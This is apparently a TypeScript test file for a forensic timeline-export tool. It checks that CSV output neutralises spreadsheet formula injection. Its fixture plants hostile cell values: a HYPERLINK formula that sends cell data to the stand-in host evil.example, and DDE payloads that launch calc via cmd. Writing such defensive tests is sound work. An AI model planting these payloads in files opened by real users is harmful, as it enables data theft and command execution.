import test from 'ava';
import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { ID, configV2 } from '../helpers/dataroot.ts';
import { cliIn, csvRows, tarArchive, tmp } from './helpers/hostile.ts';

const L = 'b'.repeat(26);
const ROOTDIR = '=2+5'; // the data root's folder in the archive: every evidence path starts with it
const NAME = '=HYPERLINK("http://evil.example/?"&A1,"click")';
const c = `${ROOTDIR}/containers/${ID}`;

/** Cells a spreadsheet runs as formulas, planted where the evidence controls the start of a cell. */
function archive(dir: string): string {
  const file = path.join(dir, 'evidence.tar');
  const line = (log: string, attrs: Record<string, string>, time: string): string => JSON.stringify({ log, stream: 'stdout', attrs, time }) + '\n';
  writeFileSync(file, tarArchive([
    { name: `${c}/config.v2.json`, data: configV2(ID, { Name: `/${NAME}` }) },
    {
      name: `${c}/${ID}-json.log`, data: line('=1+1\n', { tag: '@SUM(1+1)' }, '2026-01-02T03:04:06Z') + line('+cmd|\' /C calc\'!A0\n', { tag: '-2+3' }, '2026-01-02T03:04:07Z')
        + line('\tTAB\n', { tag: '\ttab' }, '2026-01-02T03:04:08Z') + line('plain\n', { tag: '\rcr' }, '2026-01-02T03:04:09Z'),
    },
    { name: `${ROOTDIR}/overlay2/${L}/diff/etc/x`, type: '2', linkname: '=cmd|\'/c calc\'!A1' },
  ]));
  return file;
}

test('formula injection: timesketch-csv neutralises cells starting with = + - @ tab CR with a leading quote, --no-csv-guard turns it off, l2tcsv is unchanged (plaso-compatible)', async (t) => {
  const dir = tmp('formula');
  const ev = archive(dir);
  const out = (name: string): string => path.join(dir, name);
  for (const [name, args] of [
    ['guarded.csv', ['-f', 'timesketch-csv']], ['raw.csv', ['-f', 'timesketch-csv', '--no-csv-guard']],
    ['a.l2t.csv', ['-f', 'l2tcsv']], ['b.l2t.csv', ['-f', 'l2tcsv', '--no-csv-guard']], ['ts.jsonl', ['-f', 'timesketch-jsonl']],
  ] as const) {
    const r = await cliIn(['extract', ev, '-o', out(name), '-q', ...args]);
    t.is(r.code, 0, r.stderr);
  }

  const [header, ...rows] = await csvRows(readFileSync(out('guarded.csv'), 'utf8'));
  const [, ...rawRows] = await csvRows(readFileSync(out('raw.csv'), 'utf8'));
  t.is(rows.length, rawRows.length);
  const col = (k: string): number => header!.indexOf(k);
  const numeric = new Set(['timestamp', 'offset']);
  // no cell of the guarded file starts a formula, except numbers (a negative number is not a formula)
  for (const r of rows) {
    r.forEach((cell, i) => {
      if (/^[=+\-@\t\r]/.test(cell)) t.true(numeric.has(header![i]!) && /^-\d+$/.test(cell), `${header![i]}: ${JSON.stringify(cell)}`);
    });
  }
  // the same cells, guarded and not
  const pick = (rs: string[][], k: string): string[] => [...new Set(rs.map((r) => r[col(k)]!).filter(Boolean))].sort();
  t.deepEqual(pick(rows, 'container_name'), [`'${NAME}`]);
  t.deepEqual(pick(rawRows, 'container_name'), [NAME]);
  t.deepEqual(pick(rows, 'attr_tag'), ["'\ttab", "'\rcr", "'-2+3", "'@SUM(1+1)"]);
  t.deepEqual(pick(rawRows, 'attr_tag'), ['\ttab', '\rcr', '-2+3', '@SUM(1+1)']);
  t.deepEqual(pick(rows, 'link_target'), ["'=cmd|'/c calc'!A1"]);
  t.true(rows.every((r) => r[col('evidence')]!.startsWith(`'${ROOTDIR}/`)));
  t.true(rawRows.every((r) => r[col('evidence')]!.startsWith(`${ROOTDIR}/`)));
  // the log text is inside the message, which starts with the container's label: nothing to guard there
  t.deepEqual(rows.filter((r) => r[col('kind')] === 'container.log').map((r) => r[col('message')]), [
    `[${NAME}] stdout: =1+1`, `[${NAME}] stdout: +cmd|' /C calc'!A0`, `[${NAME}] stdout: \tTAB`, `[${NAME}] stdout: plain`,
  ]);
  // every row of the guarded file equals the raw one once the quote is taken off
  t.deepEqual(rows.map((r) => r.map((cell) => (/^'[=+\-@\t\r]/.test(cell) ? cell.slice(1) : cell))), rawRows);

  // L2T: plaso writes what the evidence holds, and so do we: --no-csv-guard changes nothing
  const l2t = readFileSync(out('a.l2t.csv'));
  t.deepEqual(readFileSync(out('b.l2t.csv')), l2t);
  const lines = l2t.toString('utf8').trimEnd().split('\n');
  t.true(lines.every((l) => (l.match(/,/g) ?? []).length === 16));
  t.true(lines.some((l) => l.split(',')[9]!.startsWith(`${ROOTDIR}/containers/`)), 'an L2T short column starts with = as in plaso');
  t.true(lines.some((l) => l.includes(`container_name: ${NAME.replace(/,/g, ' ')}`)));

  // Timesketch JSONL is for machines: no quote added
  const jsonl = readFileSync(out('ts.jsonl'), 'utf8').trim().split('\n').map((l) => JSON.parse(l) as Record<string, unknown>);
  t.deepEqual([...new Set(jsonl.map((o) => o.container_name).filter(Boolean))], [NAME]);
});
